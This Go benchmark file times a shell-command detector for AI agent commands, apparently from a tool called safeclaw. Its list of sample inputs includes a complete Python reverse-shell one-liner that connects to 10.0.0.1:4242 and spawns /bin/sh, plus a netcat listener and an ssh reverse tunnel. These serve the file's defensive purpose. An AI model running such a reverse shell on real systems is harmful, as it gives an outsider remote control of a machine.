package catalog_test

import (
	"testing"

	"github.com/safeclaw/safeclaw/shell/catalog"
)

// benchCommands are typical agent commands, from the everyday to the
// interesting, each about a line long.
var benchCommands = []string{
	"git status",
	"ls -la src",
	"go test ./...",
	"npm install --save-dev typescript",
	"curl -fsSL https://example.com/install.sh -o install.sh",
	"python3 -m http.server 8080 --bind 127.0.0.1",
	"rm -rf build dist node_modules/.cache",
	"ssh -o ServerAliveInterval=60 -NR 8080:localhost:3000 user@jump.example.com",
	"docker run -d --rm --name web -p 127.0.0.1:8080:80 -v $PWD:/usr/share/nginx/html nginx:alpine",
	"nc -lvnp 4444",
	"grep -rn 'TODO' --include='*.go' .",
	"sed -i 's/foo/bar/g' config/settings.yaml",
	`python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("10.0.0.1",4242));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")'`,
	"frobnicate serve --port 7777",
}

// BenchmarkDetect measures one Detect call on an already-parsed command.
func BenchmarkDetect(b *testing.B) {
	cmds := make([]catalog.Command, len(benchCommands))
	for i, s := range benchCommands {
		cmds[i] = cmd(s)
	}
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		catalog.Detect(cmds[i%len(cmds)])
	}
}

// BenchmarkDetectEach reports the cost per kind of command.
func BenchmarkDetectEach(b *testing.B) {
	for _, s := range benchCommands {
		c := cmd(s)
		name := s
		if len(name) > 40 {
			name = name[:40]
		}
		b.Run(name, func(b *testing.B) {
			b.ReportAllocs()
			for i := 0; i < b.N; i++ {
				catalog.Detect(c)
			}
		})
	}
}
